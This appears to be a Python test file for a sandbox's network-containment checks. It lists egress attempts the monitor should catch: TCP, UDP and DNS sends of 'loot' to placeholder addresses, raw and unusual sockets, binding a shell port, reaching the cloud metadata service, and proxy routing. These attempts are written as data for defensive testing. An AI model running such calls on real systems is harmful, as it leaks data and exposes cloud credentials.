"""Cases 59 to 71: ways out by the network. Addresses are TEST-NET-3, 2001:db8::/32 and names below .invalid."""

from __future__ import annotations

from tests.abuse.case import SEEN, Act, Limit, Load

_PEER, _PEER6, _NAME = "203.0.113", "2001:db8::7", "secret.example.invalid"
_TCP = (
    Act(
        "59",
        "TCP over IPv4",
        f"socket.create_connection(('{_PEER}.59', 4444))",
        "net.connect",
        {"family": "AF_INET", "address": f"{_PEER}.59", "port": "4444"},
        rule="event.connect",
    ),
    Act(
        "59",
        "TCP over IPv6",
        f"socket.socket(socket.AF_INET6).connect(('{_PEER6}', 4444))",
        "net.connect",
        {"family": "AF_INET6", "address": _PEER6, "port": "4444"},
    ),
    Act(
        "59",
        "TCP without waiting",
        f"s = socket.socket()\ns.setblocking(False)\nreturn s.connect(('{_PEER}.159', 80))",
        "net.connect",
        {"address": f"{_PEER}.159", "port": "80"},
    ),
    Act(
        "59",
        "An IPv4 address in IPv6's clothes",
        f"socket.socket(socket.AF_INET6).connect(('::ffff:{_PEER}.7', 80))",
        "net.connect",
        {"family": "AF_INET6", "address": f"::ffff:{_PEER}.7", "port": "80"},
    ),
)
_UDP = (
    Act(
        "60",
        "UDP by sendto",
        f"UDP.sendto(b'loot', ('{_PEER}.60', 60))",
        "net.send",
        {"call": "sendto", "family": "AF_INET", "address": f"{_PEER}.60", "port": "60", "value": "loot"},
        rule="event.send",
    ),
    Act(
        "60",
        "UDP by sendmsg",
        f"UDP.sendmsg([b'lo', b'ot'], [], 0, ('{_PEER}.61', 61))",
        "net.send",
        {"call": "sendmsg", "address": f"{_PEER}.61", "port": "61", "value": "loot"},
    ),
    Act(
        "60",
        "Two messages by one sendmmsg: the second's address",
        f"call(307, UDP.fileno(), messages(('{_PEER}.62', 62), ('{_PEER}.63', 63)), 2, 0)",
        "net.send",
        {"call": "sendmmsg", "address": f"{_PEER}.63", "port": "63", "value": "loot"},
    ),
    Act(
        "60",
        "UDP by a connected socket",
        f"s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('{_PEER}.64', 64))\nreturn s.send(b'loot')",
        "net.connect",
        {"address": f"{_PEER}.64", "port": "64"},
    ),
    Act(
        "60",
        "A socket that was told it is connected (port 53), by write",
        f"""
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.connect(('{_PEER}.65', 53))
        os.write(s.fileno(), b'x')
        """,
        "net.connect",
        {"address": f"{_PEER}.65", "port": "53"},
    ),
    Act(
        "60",
        "UDP over IPv6",
        f"socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'loot', ('{_PEER6}', 66))",
        "net.send",
        {"family": "AF_INET6", "address": _PEER6, "port": "66"},
    ),
)
_DNS = (
    Act(
        "61",
        "A name by getaddrinfo",
        f"socket.getaddrinfo('{_NAME}', 80)",
        "net.dns",
        {"name": _NAME},
        contained="refused gaierror",
        rule="event.dns",
    ),
    *(
        Act(
            "61",
            f"A name asked of {server}",
            f"UDP.sendto(QUERY, ('{server}', 53))",
            "net.dns",
            {"address": server, "port": "53", "name": _NAME},
        )
        for server in ("8.8.8.8", "127.0.0.11")
    ),
    Act(
        "61",
        "A name asked over TCP",
        "socket.create_connection(('8.8.4.4', 53)).sendall(struct.pack('>H', len(QUERY)) + QUERY)",
        "net.connect",
        {"address": "8.8.4.4", "port": "53"},
    ),
)
_SOCKETS = tuple(
    Act(number, title, f"socket.socket({family}, {kind}, {protocol})", "net.socket", detail)
    for number, title, family, kind, protocol, detail in (
        ("62", "ICMP by a raw socket", 2, 3, 1, {"family": "AF_INET", "type": "SOCK_RAW", "protocol": "1"}),
        ("62", "ICMP by a ping socket", 2, 2, 1, {"family": "AF_INET", "type": "SOCK_DGRAM", "protocol": "1"}),
        ("62", "ICMPv6 by a ping socket", 10, 2, 58, {"family": "AF_INET6", "protocol": "58"}),
        ("63", "AF_PACKET", 17, 3, 768, {"family": "AF_PACKET"}),
        ("63", "A raw socket of any protocol", 2, 3, 255, {"type": "SOCK_RAW", "protocol": "255"}),
        ("64", "AF_VSOCK", 40, 1, 0, {"family": "AF_VSOCK"}),
        ("65", "AF_NETLINK", 16, 3, 0, {"family": "AF_NETLINK"}),
        ("65", "AF_ALG", 38, 5, 0, {"family": "AF_ALG"}),
        ("65", "AF_XDP", 44, 3, 0, {"family": "44"}),
        ("65", "AF_BLUETOOTH", 31, 3, 1, {"family": "AF_BLUETOOTH"}),
        ("65", "AF_TIPC", 30, 1, 0, {"family": "AF_TIPC"}),
        ("65", "AF_CAN", 29, 3, 1, {"family": "AF_CAN"}),
        ("65", "SCTP", 2, 1, 132, {"family": "AF_INET", "protocol": "132"}),
    )
)
_OTHER = (
    Act(
        "66",
        "TCP fast open: data in the first packet, without a connect",
        f"socket.socket().sendto(b'loot', 0x20000000, ('{_PEER}.66', 443))",
        "net.send",
        {"call": "sendto", "address": f"{_PEER}.66", "port": "443", "value": "loot"},
    ),
    Act("67", "io_uring, to connect by it", "call(425, 8, bytes(256))", "escape.io_uring", {"call": "io_uring_setup"}),
    Act(
        "68",
        "Bind a shell's port",
        "socket.socket().bind(('0.0.0.0', 4444))",
        "net.listen",
        {"call": "bind", "family": "AF_INET", "address": "0.0.0.0", "port": "4444"},
        rule="event.listen",
    ),
    Act("68", "Listen on it", "socket.socket().listen()", "net.listen", {"call": "listen"}),
    Act("68", "Accept from it", "socket.socket().accept()", "net.listen", {"call": "accept"}),
    Act(
        "69",
        "The metadata service",
        "socket.create_connection(('169.254.169.254', 80))",
        "net.connect",
        {"address": "169.254.169.254", "port": "80"},
        rule="event.connect.metadata",
    ),
    Act(
        "69",
        "The metadata service over IPv6",
        "socket.socket(socket.AF_INET6).connect(('fd00:ec2::254', 80))",
        "net.connect",
        {"address": "fd00:ec2::254", "port": "80"},
        rule="event.connect.metadata",
    ),
    Act(
        "69",
        "The metadata service's IPv4 address in IPv6's clothes",
        "socket.socket(socket.AF_INET6).connect(('::ffff:169.254.169.254', 80))",
        "net.connect",
        {"address": "::ffff:169.254.169.254", "port": "80"},
        rule="event.connect.metadata",
    ),
    Act(
        "70",
        "By a proxy of its own choice",
        f"""
        import urllib.request
        os.environ["http_proxy"] = "http://{_PEER}.70:3128"
        try:
            urllib.request.urlopen("http://example.invalid/", timeout=2)
        except OSError as error:
            raise error.reason
        """,
        "net.connect",
        {"address": f"{_PEER}.70", "port": "3128"},
    ),
    Act(
        "70",
        "By a socket that was left open",
        """
        numbers = [int(name) for name in os.listdir("/proc/self/fd")]
        known = {UDP.fileno()}
        return [number for number in numbers if number not in known and is_socket(number)]
        """,
        "file.read",
        {"path": "/proc/self/fd"},
        contained=r"\[\]",
        answers=SEEN,
    ),
)
# The last act: what all the others have sent, by the kernel's own count.
_COUNTED = Act(
    "59",
    "What the interfaces have sent after all of these",
    """
    rows = [line.split() for line in open("/proc/self/net/dev").read().splitlines()[2:]]
    return {row[0]: int(row[9]) for row in rows if row[0] != "lo:" and int(row[9])}, "lo:" in [row[0] for row in rows]
    """,
    "file.read",
    {"path": "/proc/self/net/dev"},
    contained=r"\(\{\}, True\)",
    answers=SEEN,
)
_PRELUDE = r"""
import stat
UDP = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
QUERY = b"\x12\x34\x01\x00\x00\x01" + bytes(6) + b"\x06secret\x07example\x07invalid\x00\x00\x01\x00\x01"

def is_socket(number):
    try:
        return stat.S_ISSOCK(os.fstat(number).st_mode)
    except OSError:
        return False

def messages(*peers):
    # a vector of struct mmsghdr, each with its own address
    global _held
    _held = [ctypes.create_string_buffer(b"loot")]
    vector = ctypes.create_string_buffer(struct.pack("<QQ", ctypes.addressof(_held[0]), 4))
    rows = b""
    for host, port in peers:
        address = struct.pack("<H", 2) + struct.pack(">H", port) + socket.inet_aton(host) + bytes(8)
        name = ctypes.create_string_buffer(address)
        rows += struct.pack("<QI4xQQQQI4xI4x", ctypes.addressof(name), 16, ctypes.addressof(vector), 1, 0, 0, 0, 0)
        _held += [name, vector]
    return rows
"""
LOADS = (Load("egress", (*_TCP, *_UDP, *_DNS, *_SOCKETS, *_OTHER, _COUNTED), _PRELUDE),)
LIMITS = (
    Limit(
        "71",
        "Covert ways out: exit codes, timing, sizes",
        "told without a packet",
        "who can time a load, or sees its verdict, can be told a little by it",
    ),
)
